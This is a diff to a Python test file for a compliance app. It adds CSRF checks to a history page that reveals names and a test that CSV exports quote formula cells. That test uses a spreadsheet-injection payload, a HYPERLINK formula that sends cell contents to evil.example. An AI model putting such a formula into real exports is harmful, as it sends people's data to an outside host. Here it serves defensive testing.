@@ -10,11 +10,13 @@ from uuid import uuid4
 import httpx
 import pytest
 
+from app.history import FORMULA_STARTS, spreadsheet_safe
 from domain.vocabulary import Role
 from infra.crypto import Keyring
 from infra.eventstore import EventStore
 from tests.api.conftest import Hub
-from tests.api.test_pages import sign_in
+from tests.api.test_pages import csrf_of, sign_in
+from tests.compliance import build
 from tests.compliance.build import NAME, REASONS, shared_path
 
 OTHERS = [Role.COORDINATOR, Role.AGENCY_WORKER, Role.ADVISOR, Role.RECIPIENT]
@@ -122,6 +124,39 @@ async def test_the_history_page_is_for_compliance_officers_and_records_reveals(
     page = await browser.get(f"/requests/{built.request_id}/history")
     assert page.status_code == 200, page.text
     assert "Verified" in page.text and "decided to share" in page.text and NAME not in page.text
-    shown = await browser.get(f"/requests/{built.request_id}/history?reveal=true")
+    # A GET cannot reveal (a link or image elsewhere would record a view in the officer's
+    # name), nor a POST without the page's CSRF token; neither records anything.
+    linked = await browser.get(f"/requests/{built.request_id}/history?reveal=true")
+    assert NAME not in linked.text
+    forged = await browser.post(f"/requests/{built.request_id}/history", data={})
+    assert forged.status_code == 403 and NAME not in forged.text
+    assert await store.read_stream(f"access:{built.request_id}") == []
+    shown = await browser.post(
+        f"/requests/{built.request_id}/history", data={"csrf_token": csrf_of(page)}
+    )
     assert NAME in shown.text and "this view has been recorded" in shown.text
     assert "compliance officer" in shown.text.split("Who has viewed")[1]
+
+
+async def test_csv_exports_quote_cells_a_spreadsheet_would_run(
+    client: httpx.AsyncClient,
+    hub: Hub,
+    store: EventStore,
+    keyring: Keyring,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/"&A1,"open")'
+    monkeypatch.setattr(build, "REASONS", formula)
+    built = await shared_path(store, keyring)
+    officer = hub.people[Role.COMPLIANCE_OFFICER]
+    response = await client.get(
+        f"/api/requests/{built.request_id}/export?format=csv&reveal=true",
+        headers=officer.headers,
+    )
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+    assert "'" + formula in " ".join(cells)
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    for start in FORMULA_STARTS:
+        assert spreadsheet_safe(start + "1") == "'" + start + "1"
+    assert spreadsheet_safe("plain") == "plain" and spreadsheet_safe(3) == 3
